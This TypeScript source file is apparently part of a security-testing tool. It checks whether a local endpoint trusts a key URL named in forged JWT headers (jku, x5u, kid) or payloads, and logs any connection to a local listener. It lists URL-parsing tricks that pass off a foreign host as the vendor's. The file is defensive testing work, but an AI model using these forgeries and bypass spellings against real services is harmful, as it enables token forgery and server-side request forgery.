import type { Sample } from '../../../../testing/sample.js'
import { type AttackCase, type Field, type Plan, verifiesNothing } from '../../attack-case.js'
import { judge } from '../../probing/probes.js'
import { jwtOf, strangerKeys, withJwt } from '../../scheme/json-web-token.js'
import { keyUrlPlace, readProof, writeProof } from '../../scheme/proof-place.js'
import type { Supply } from '../../scheme/supply.js'
import { type Exchange, isAccepted, pause } from '../../wire/exchange.js'

/** Forgeries that name the URL of a key. A port of this machine shows whether the endpoint visits it. */
export const keyUrlCase: AttackCase = {
  id: 'forged.key-url',
  rule: 'Gets keys from the host of its vendor only',
  defect: 'Gets keys from a URL that a stranger names',
  why: 'With the key of a stranger every forgery is genuine, and the endpoint calls any address in its network.',
  references: ['RFC 8725, section 3.10'],
  severity: 'critical',
  fix: 'keys',
  causes: [...verifiesNothing, 'forged.unknown-key', 'forged.own-key'],
  async plan(supply, field) {
    if (!field.isLocal) return 'it needs an endpoint on this machine'
    const lures = (await luresInJwt(supply)) ?? (await luresInPlace(supply))
    return lures === undefined ? 'the vendor names no URL of a key' : visits(field, lures)
  },
}

/** A forgery that names a URL of a host. */
interface Lure {
  readonly label: string
  make(host: string): Promise<Sample>
}

function visits({ runner }: Field, lures: readonly Lure[]): Plan {
  return {
    requests: lures.length,
    run: async () => {
      const { listen } = await import('../../wire/node-listener.js')
      const listener = await listen()
      const exchanges: Exchange[] = []
      const wrong: Exchange[] = []
      try {
        for (const { label, make } of lures) {
          const before = listener.connections
          const exchange = await runner.send(label, runner.toWire(await make(listener.host)))
          // Some endpoints answer first.
          await pause(20)
          exchanges.push(exchange)
          if (listener.connections > before || isAccepted(exchange.arrival)) wrong.push(exchange)
        }
      } finally {
        listener.close()
      }
      return judge(wrong, exchanges.length, 'visited or accepted')
    },
  }
}

async function luresInJwt(supply: Supply): Promise<readonly Lure[] | undefined> {
  const jwt = await jwtOf(supply)
  if (jwt === undefined) return undefined
  const { alg, kid, sign } = await strangerKeys(jwt)
  return ['jku', 'x5u', 'kid'].flatMap((name) =>
    ['http', 'https'].map((scheme) => ({
      label: `${name} of another host, ${scheme}`,
      make: async (host) => {
        const named = { alg, kid, [name]: `${scheme}://${host}/.well-known/jwks.json` }
        return withJwt(supply, await supply.genuine(), (header) => ({ ...header, ...named }), sign)
      },
    })),
  )
}

async function luresInPlace(supply: Supply): Promise<readonly Lure[] | undefined> {
  const genuine = await supply.genuine()
  const place = keyUrlPlace(genuine)
  const sender = await supply.stranger()
  if (place === undefined || sender === undefined) return undefined
  const { host: vendor, pathname } = new URL(readProof(genuine, place))
  return spellings.map(([label, write]) => ({
    label: `${place.name}: ${label}`,
    make: async (host) => writeProof(await supply.genuine({ sender }), place, write(host, vendor, pathname)),
  }))
}

// All of these lead to the host, by the URL standard of browsers.
const spellings: readonly (readonly [label: string, write: (host: string, vendor: string, path: string) => string])[] =
  [
    ['another host', (host, _vendor, path) => `https://${host}${path}`],
    ['another host without TLS', (host, _vendor, path) => `http://${host}${path}`],
    ["the vendor's host as user name", (host, vendor, path) => `https://${vendor}@${host}${path}`],
    ["the vendor's host as user name and password", (host, vendor, path) => `https://${vendor}:443@${host}${path}`],
    ['a backslash after the host', (host, vendor, path) => `https://${host}\\@${vendor}${path}`],
    ["the vendor's host in the path", (host, vendor, path) => `https://${host}/${vendor}${path}`],
    ["the vendor's host behind dot segments", (host, vendor, path) => `https://${host}${path}/../${vendor}${path}`],
    ["the vendor's URL in the query", (host, vendor, path) => `https://${host}/?https://${vendor}${path}`],
    ["the vendor's URL in the fragment", (host, vendor, path) => `https://${host}/#https://${vendor}${path}`],
    ['a host that begins like the vendor', (host, vendor, path) => `https://${vendor}.${lookAlike(host)}${path}`],
    ['white space before the scheme', (host, vendor, path) => ` https://${vendor}@${host}${path}`],
  ]

// Names below localhost lead to this machine where the resolver knows RFC 6761.
function lookAlike(host: string): string {
  return host.replace(/^[\d.]+/, 'localhost')
}
